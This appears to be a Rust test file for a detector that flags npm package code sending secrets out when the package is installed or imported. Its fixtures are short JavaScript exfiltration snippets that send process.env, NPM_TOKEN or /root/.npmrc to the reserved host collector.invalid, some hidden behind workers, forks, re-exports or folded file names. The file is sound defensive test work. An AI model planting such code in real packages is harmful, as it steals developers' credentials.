//! What has to be flagged. All hosts are reserved names.

mod samples;

use weir_model::contents::{SourceKind, Surface};

use samples::SAMPLES;

use super::installed;

#[test]
fn every_sample_is_flagged() {
    let mut missed = Vec::new();
    for (name, source, sink, code) in SAMPLES {
        let facts = installed(&[("index.js", code)]);
        let found = facts.flows.iter().any(|flow| {
            flow.source == *source && flow.sink == *sink && flow.surface == Surface::Install
        });
        if !found {
            missed.push(format!("{name}: {:?} {:?}", facts.flows, facts.unread));
        }
    }
    assert!(
        missed.is_empty(),
        "{} of {}:\n{}",
        missed.len(),
        SAMPLES.len(),
        missed.join("\n")
    );
    assert!(SAMPLES.len() >= 40);
}

#[test]
fn samples_are_flagged_without_install_too() {
    let mut missed = Vec::new();
    for (name, _, _, code) in SAMPLES {
        let facts = super::run(
            &[("index.js", code)],
            &[],
            &[(Surface::Import, "./index.js")],
        );
        if facts
            .flows
            .first()
            .is_none_or(|flow| flow.surface != Surface::Import)
        {
            missed.push(*name);
        }
    }
    assert!(missed.is_empty(), "{missed:?}");
}

/// An address of this machine does not hide one outside it. `passing` has the one without the other.
#[test]
fn a_client_that_nobody_knows_is_told_by_the_address_outside() {
    let facts = installed(&[(
        "index.js",
        "require('function-runner').run({ own: 'http://localhost:9999/f', url: 'https://collector.invalid/f', env: { ...process.env } })",
    )]);
    let flow = &facts.flows[0];
    assert_eq!(flow.source, SourceKind::Environment);
    assert_eq!(flow.sink_detail, "function-runner.run to collector.invalid");
}

#[test]
fn a_flow_names_both_ends_and_the_host() {
    let facts = installed(&[(
        "index.js",
        "const fs = require('fs');\nconst t = fs.readFileSync('/root/.npmrc');\nconst body = t + '';\nfetch('https://collector.invalid/x', { body });\n",
    )]);
    let flow = &facts.flows[0];
    assert_eq!(flow.source_detail, "/root/.npmrc");
    assert_eq!(flow.source_place.line, 2);
    assert!(flow.source_place.snippet.contains("readFileSync"));
    assert_eq!(flow.sink_detail, "fetch to collector.invalid");
    assert_eq!(flow.sink_place.line, 4);
    assert_eq!(
        flow.steps
            .iter()
            .map(|step| step.place.line)
            .collect::<Vec<_>>(),
        [3]
    );
}

#[test]
fn flows_cross_files() {
    let sets: &[(&str, &[(&str, &str)])] = &[
        (
            "exports of functions",
            &[
                (
                    "index.js",
                    "const { get } = require('./lib/get'); require('./lib/send').send(get());",
                ),
                (
                    "lib/get.js",
                    "exports.get = () => JSON.stringify(process.env);",
                ),
                (
                    "lib/send.js",
                    "module.exports = { send(x) { require('https').request('https://collector.invalid').end(x); } };",
                ),
            ],
        ),
        (
            "ES modules with default and re-export",
            &[
                (
                    "index.js",
                    "import send, { data } from './all.js'; send(data);",
                ),
                (
                    "all.js",
                    "export { data } from './data.js'; export { default } from './send.js';",
                ),
                ("data.js", "export const data = { ...process.env };"),
                (
                    "send.js",
                    "export default async function (x) { await fetch('https://collector.invalid', { body: JSON.stringify(x) }); }",
                ),
            ],
        ),
        (
            "a wrapper module around https",
            &[
                (
                    "index.js",
                    "require('./w').http.get('https://collector.invalid/' + process.env.NPM_TOKEN);",
                ),
                ("w/index.js", "exports.http = require('https');"),
            ],
        ),
        (
            "export star",
            &[
                (
                    "index.js",
                    "import * as all from './a.mjs'; all.go(JSON.stringify(process.env));",
                ),
                ("a.mjs", "export * from './b.mjs';"),
                (
                    "b.mjs",
                    "export function go(x) { fetch('https://collector.invalid/' + x) }",
                ),
            ],
        ),
        (
            "compiled TypeScript",
            &[
                (
                    "index.js",
                    "\"use strict\"; var __importDefault = function (mod) { return (mod && mod.__esModule) ? mod : { \"default\": mod }; };\nObject.defineProperty(exports, '__esModule', { value: true });\nconst https_1 = __importDefault(require('https')); const e_1 = require('./e');\nhttps_1.default.get('https://collector.invalid/' + (0, e_1.all)());",
                ),
                (
                    "e.js",
                    "\"use strict\"; Object.defineProperty(exports, '__esModule', { value: true }); exports.all = void 0; function all() { return JSON.stringify(process.env); } Object.defineProperty(exports, 'all', { enumerable: true, get: function () { return all; } });",
                ),
            ],
        ),
        (
            "a folded file name",
            &[
                ("index.js", "require('./' + 'pay' + 'load');"),
                (
                    "payload.js",
                    "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });",
                ),
            ],
        ),
        (
            "a file name from a variable",
            &[
                (
                    "index.js",
                    "const a = './pay'; const b = () => 'load'; require(a + b());",
                ),
                ("payload.js", "require('./deep/x');"),
                (
                    "deep/x.js",
                    "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });",
                ),
            ],
        ),
        (
            "a worker",
            &[
                (
                    "index.js",
                    "const { Worker } = require('worker_threads'); new Worker('./w.js');",
                ),
                (
                    "w.js",
                    "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });",
                ),
            ],
        ),
        (
            "a spawned file",
            &[
                (
                    "index.js",
                    "require('child_process').spawn('node', ['w.js'], { detached: true });",
                ),
                (
                    "w.js",
                    "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });",
                ),
            ],
        ),
        (
            "a forked file",
            &[
                (
                    "index.js",
                    "const path = require('path'); require('child_process').fork(path.join(__dirname, 'w.js'));",
                ),
                (
                    "w.js",
                    "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });",
                ),
            ],
        ),
        (
            "a host from JSON",
            &[
                (
                    "index.js",
                    "const c = require('./c.json'); fetch(c.to, { body: JSON.stringify(process.env) });",
                ),
                ("c.json", "{\"to\": \"https://collector.invalid\"}"),
            ],
        ),
    ];
    for (name, files) in sets {
        let facts = installed(files);
        assert!(
            facts
                .flows
                .iter()
                .any(|flow| flow.surface == Surface::Install),
            "{name}: {facts:?}"
        );
    }
}
